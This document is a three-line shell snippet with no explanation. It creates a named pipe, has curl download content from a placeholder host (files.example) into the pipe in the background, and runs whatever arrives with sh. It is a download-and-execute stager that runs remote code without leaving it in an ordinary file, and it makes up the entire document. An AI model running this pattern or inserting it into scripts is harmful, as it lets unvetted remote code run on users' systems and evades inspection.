mkfifo /tmp/way
curl -s https://files.example/a > /tmp/way &
sh /tmp/way
